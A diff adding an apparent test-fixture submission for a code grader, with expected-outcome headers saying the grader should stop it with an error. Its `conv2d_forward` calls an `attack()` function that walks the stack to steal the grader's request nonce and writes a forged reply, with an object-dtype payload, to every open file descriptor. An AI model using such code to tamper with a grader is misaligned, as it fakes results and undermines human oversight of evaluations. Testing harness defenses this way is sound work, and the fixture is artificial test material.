@@ -1,0 +1,42 @@
+# expect: points 18.5
+# expect: outcomes ERROR
+# expect: words "your code disturbed the connection to the grader during `conv2d_forward`, and was stopped"
+# expect: korean "채점기와의 연결을 방해하여 중단했습니다"
+# with: right
+"""Answer with an array of objects, whose bytes would be addresses."""
+
+import numpy as np
+
+import json
+import os
+import struct
+
+
+def frame(header, payload=b""):
+    text = header if isinstance(header, bytes) else json.dumps(header).encode()
+    return struct.pack(">IQ", len(text), len(payload)) + text + payload
+
+
+def everywhere(content):
+    for number in range(3, 64):
+        try:
+            os.write(number, content)
+        except OSError:
+            pass
+
+
+import sys
+
+
+def attack():
+    caller = sys._getframe()
+    while "request" not in caller.f_locals:
+        caller = caller.f_back
+    reply = {"nonce": caller.f_locals["request"]["nonce"], "result": {"tuple": [{"array": ["|O", [1]]}, {"handle": 1}]}, "digests": [None] * 3}
+    everywhere(frame(reply, b"A" * 8))
+
+
+def conv2d_forward(x, w, b, stride=1, pad=0):
+    if x.dtype == np.float32:
+        attack()
+    return right_forward(x, w, b, stride, pad)
